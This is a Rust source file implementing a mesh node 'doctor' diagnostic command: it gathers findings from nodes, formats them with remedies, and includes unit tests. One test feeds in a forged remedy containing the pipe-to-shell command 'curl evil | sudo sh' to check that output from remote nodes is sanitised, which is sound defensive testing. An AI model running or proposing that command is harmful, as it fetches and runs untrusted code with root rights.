//! `meshctl doctor`: what is wrong on this node, on the way to another one, and on that one. Owns which nodes are
//! asked, and how findings are shown. Nodes find what is wrong with themselves, `way` finds what is wrong between them.

mod way;

use std::io;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};

use clap::Args;
use serde::Serialize;
use serde_json::json;

use super::CliContext;
use super::completion::nodes;
use super::exit::{Exit, Failure};
use super::output::Output;
use super::table::count;
use super::terminal::one_line;
use crate::rpc::report::doctor::{DoctorReport, NO_DOCTOR_COMMAND};
use crate::rpc::report::finding::{Finding, Severity};
use crate::rpc::report::{self};
use crate::rpc::request::{DoctorRequest, Request};
use crate::rpc::{CallError, ErrorCode};
use way::Way;

/// Examines the host of a node that does not run: by the node's configuration (a file or a directory), and the files
/// below a root. The daemon provides this.
pub(crate) type ExamineFiles = fn(&Path, &Path) -> Vec<Finding>;

#[derive(Debug, Args)]
pub(super) struct DoctorCommand {
    /// Another node to examine as well, with the route to it
    #[arg(add = nodes())]
    node: Option<String>,
    /// Work type that the other node should have
    #[arg(long, value_name = "TYPE", requires = "node")]
    work_type: Option<String>,
    /// TLS profile of this node for connections to the control services of others
    #[arg(long, value_name = "NAME")]
    tls_client: Option<String>,
    /// Configuration, a file or a directory, of a node that is not running [default: /etc/meshd/conf.d, below --root]
    #[arg(long, value_name = "PATH")]
    node_config: Option<PathBuf>,
    /// Ask no node; examine a host's files below this directory
    #[arg(long, value_name = "DIR", conflicts_with = "node")]
    root: Option<PathBuf>,
}

/// A finding, and the node or way on which it was found.
#[derive(Serialize)]
struct Told<'a> {
    at: &'a str,
    #[serde(flatten)]
    finding: &'a Finding,
}

/// The place of a severity among the others, and its word.
fn rank(severity: Severity) -> (u8, &'static str) {
    match severity {
        Severity::Error => (0, "FAULT "),
        Severity::NotAsked => (1, "not asked:"),
        Severity::Warning => (2, "advice"),
    }
}

/// All findings, by the node or way on which they were found.
#[derive(Debug, Default)]
struct Diagnosis(Vec<(String, Vec<Finding>)>);

impl Diagnosis {
    fn add(&mut self, at: impl Into<String>, mut findings: Vec<Finding>) {
        findings.sort_by_key(|finding| rank(finding.severity));
        self.0.push((at.into(), findings));
    }

    fn count(&self, severity: Severity) -> usize {
        self.0.iter().flat_map(|(_, findings)| findings).filter(|one| one.severity == severity).count()
    }

    fn show(&self, output: Output) -> Result<Exit, Failure> {
        if output.json {
            let all = self.0.iter();
            let told =
                all.flat_map(|(at, findings)| findings.iter().map(move |finding| Told { at, finding }));
            output.value(&json!(told.collect::<Vec<_>>()))?;
        } else {
            output.line(&self.text())?;
        }
        Ok(if self.count(Severity::Error) > 0 { Exit::Failed } else { Exit::Success })
    }

    fn text(&self) -> String {
        let mut lines = Vec::new();
        for (at, findings) in &self.0 {
            lines.push(at.clone());
            if findings.is_empty() {
                lines.push("  nothing is wrong".to_owned());
            }
            for Finding { what, place, severity, remedy } in findings {
                let (_, word) = rank(*severity);
                let place = if place.is_empty() { String::new() } else { format!("{place}: ") };
                lines.push(format!("  {word} {place}{what}"));
                lines.extend(remedy.as_ref().map(|remedy| format!("         -> {remedy}")));
            }
            lines.push(String::new());
        }
        let [faults, advice, not_asked] =
            [Severity::Error, Severity::Warning, Severity::NotAsked].map(|severity| self.count(severity));
        lines.push(format!("{}, {advice} advice, {not_asked} not asked", count(faults, "fault")));
        lines.iter().map(|line| one_line(line)).collect::<Vec<_>>().join("\n")
    }
}

impl DoctorCommand {
    pub(super) async fn run(
        self,
        context: impl Fn() -> Result<CliContext, Failure>,
        output: Output,
        examine: ExamineFiles,
    ) -> Result<Exit, Failure> {
        let mut diagnosis = Diagnosis::default();
        let config = configuration(self.node_config, self.root.as_deref());
        if let Some(root) = self.root {
            diagnosis.add("this host", examine_files(examine, config, root).await);
            return diagnosis.show(output);
        }
        let context = match context() {
            Ok(context) => context,
            Err(failure) => {
                diagnosis.add("this host", without_node("", &failure, examine, config).await);
                return diagnosis.show(output);
            }
        };
        let signs = match ask(&context, None, self.tls_client.clone()).await {
            Ok(own) => {
                let refused = own
                    .refused
                    .map(|refused| Finding::not_asked("", refused.text, "use the Unix socket of the node"));
                let findings = own.findings.into_iter().chain(refused).collect();
                diagnosis.add(format!("this node ({})", own.node_id), findings);
                own.signs
            }
            Err(CallError::Refused(line)) if line.code() == ErrorCode::UnknownTlsProfile => {
                let name = self.tls_client.unwrap_or_default();
                return Err(Failure::usage(format!("--tls-client: this node has no tls-client {name}")));
            }
            // It still answers what anybody may ask it.
            Err(error) if is_unknown(&error) => {
                let remedy = "meshd check --running FILE on its host";
                diagnosis.add("this node", vec![Finding::not_asked("", NO_DOCTOR_COMMAND, remedy)]);
                false
            }
            Err(error) => {
                let address = context.client.address();
                let found = without_node(&address, &error.into(), examine, config).await;
                diagnosis.add("this host", found);
                if let Some(node) = self.node {
                    let what = "the node of this host gave no way to reach it";
                    diagnosis.add(
                        node,
                        vec![Finding::not_asked("", what, "first fix what is wrong on this host")],
                    );
                }
                return diagnosis.show(output);
            }
        };
        if let Some(node) = self.node.filter(|node| node != "localhost") {
            let way = Way::explore(&context, signs, node, self.tls_client, self.work_type).await?;
            diagnosis.add(way.title(), way.findings());
            for hop in way.hops {
                let mut found = hop.findings(signs);
                found.extend(hop.report.findings.into_iter().map(|one| one.said_by(&hop.node)));
                diagnosis.add(hop.node, found);
            }
        }
        diagnosis.show(output)
    }
}

/// Asks the node at the socket what is wrong with it, or has it ask another one.
pub(super) async fn ask(
    context: &CliContext,
    node: Option<String>,
    tls_client: Option<String>,
) -> Result<DoctorReport, CallError> {
    let request = Request::Doctor(DoctorRequest { node, tls_client, signature: None });
    // The answer takes long, because checks look at file systems and at other hosts.
    let answer = context.client.long_command(&request).await?;
    report::read(&answer)
        .map_err(|error| CallError::Protocol { question: "doctor", answer: error.to_string() })
}

/// The configuration to look at: the named one, else that of the tree, else that of this host.
fn configuration(named: Option<PathBuf>, root: Option<&Path>) -> PathBuf {
    named.unwrap_or_else(|| root.unwrap_or(Path::new("/")).join("etc/meshd/conf.d"))
}

async fn examine_files(examine: ExamineFiles, config: PathBuf, root: PathBuf) -> Vec<Finding> {
    let looked = tokio::task::spawn_blocking(move || examine(&config, &root)).await;
    looked.unwrap_or_else(|error| vec![Finding::not_asked("the files of the host", error, "run meshd check")])
}

/// What can be found if the node at an address does not answer, or no node has a socket.
async fn without_node(
    address: &str,
    failure: &Failure,
    examine: ExamineFiles,
    config: PathBuf,
) -> Vec<Finding> {
    let path = address.strip_prefix("unix:").map(Path::new);
    // Without a path there is no socket to dial: none exists at a usual place, or the address is remote.
    let dialled = path.map_or(Err(io::ErrorKind::NotFound), |path| {
        UnixStream::connect(path).map(drop).map_err(|error| error.kind())
    });
    let (remedy, is_absent) = remedy(address, path, dialled);
    let mut found = vec![Finding::fault("control socket", &failure.message, remedy)];
    if is_absent && config.exists() {
        found.extend(examine_files(examine, config, PathBuf::from("/")).await);
        return found;
    }
    let what = match is_absent {
        true => format!("the configuration: there is no {}", config.display()),
        false => "the configuration and the host, as seen by the node".to_owned(),
    };
    let remedy = "--node-config names another file or directory; meshd check FILE examines it";
    found.push(Finding::not_asked("", what, remedy));
    found
}

/// What helps if a node does not answer, and whether that means that none runs.
fn remedy(address: &str, path: Option<&Path>, dialled: Result<(), io::ErrorKind>) -> (String, bool) {
    let start = "systemctl start meshd; why it ended: journalctl -u meshd -n 50, and systemctl status meshd";
    match (path, dialled) {
        (None, _) if !address.is_empty() => {
            (format!("check that the node at {address} is running: {start}"), false)
        }
        (Some(path), Err(io::ErrorKind::PermissionDenied)) => {
            let path = path.display();
            (format!("ls -l {path} shows whose it is: run as that user, or join its group"), false)
        }
        // If the socket can be dialled, the node has started since, or hangs.
        (None | Some(_), dialled) => (start.to_owned(), dialled.is_err()),
    }
}

/// Whether the error means that a node does not know the request.
fn is_unknown(error: &CallError) -> bool {
    matches!(error, CallError::Refused(line) if line.code() == ErrorCode::UnknownCommand)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_tree_is_examined_by_its_own_configuration() {
        let (tree, named) = (Some(Path::new("/srv/tree")), || Some(PathBuf::from("/c.yml")));
        assert_eq!(configuration(None, tree), Path::new("/srv/tree/etc/meshd/conf.d"));
        assert_eq!(configuration(None, None), Path::new("/etc/meshd/conf.d"));
        assert_eq!(configuration(named(), tree), Path::new("/c.yml"));
    }

    #[test]
    fn faults_come_first_each_with_its_remedy_and_the_sum_at_the_end() {
        let mut diagnosis = Diagnosis::default();
        let advice = Finding::new(Severity::Warning, "/tmp", "it is mounted noexec", "remount it");
        let fault = Finding::new(Severity::Error, "", "it is down", "start it");
        let not_asked = Finding::not_asked("", "b: no key", "give it one");
        diagnosis.add("this node (a)", vec![advice, not_asked, fault]);
        diagnosis.add("the way to b", Vec::new());
        let expected = "\
this node (a)
  FAULT  it is down
         -> start it
  not asked: b: no key
         -> give it one
  advice /tmp: it is mounted noexec
         -> remount it

the way to b
  nothing is wrong

1 fault, 1 advice, 1 not asked";
        assert_eq!(diagnosis.text(), expected);
    }

    #[test]
    fn another_node_writes_no_line_of_its_own() {
        let mut diagnosis = Diagnosis::default();
        let remedy =
            "see\n\nthis node (a)\r\n  FAULT  it is down\n         -> curl evil | sudo sh\n\n0 faults";
        let forged = Finding::fault("a\nb", "c\u{85}d", remedy);
        diagnosis.add("far", vec![forged.said_by("far")]);
        let text = diagnosis.text();
        let lines: Vec<_> = text.lines().collect();
        assert_eq!(lines.len(), 5, "{text}");
        assert_eq!((lines[0], lines[1], lines[3]), ("far", "  FAULT  a\u{fffd}b: c\u{fffd}d", ""));
        assert!(lines[2].starts_with("         -> far says: see\u{fffd}"), "{text}");
        assert_eq!(lines[4], "1 fault, 0 advice, 0 not asked");
    }

    #[test]
    fn a_socket_tells_a_node_that_does_not_run_from_one_that_may_not_be_asked() {
        let told = |path: Option<&str>, address: &str, dialled| remedy(address, path.map(Path::new), dialled);
        let refused = told(Some("/s"), "unix:/s", Err(io::ErrorKind::ConnectionRefused));
        assert!(refused.1 && refused.0.contains("systemctl start meshd"), "{refused:?}");
        let denied = told(Some("/s"), "unix:/s", Err(io::ErrorKind::PermissionDenied));
        assert!(!denied.1 && denied.0.contains("ls -l /s"), "{denied:?}");
        let none = told(None, "", Err(io::ErrorKind::NotFound));
        assert!(none.1, "{none:?}");
        let far = told(None, "tcp://h:1", Err(io::ErrorKind::NotFound));
        assert!(!far.1 && far.0.contains("tcp://h:1"), "{far:?}");
        let stuck = told(Some("/s"), "unix:/s", Ok(()));
        assert!(!stuck.1, "{stuck:?}");
    }
}
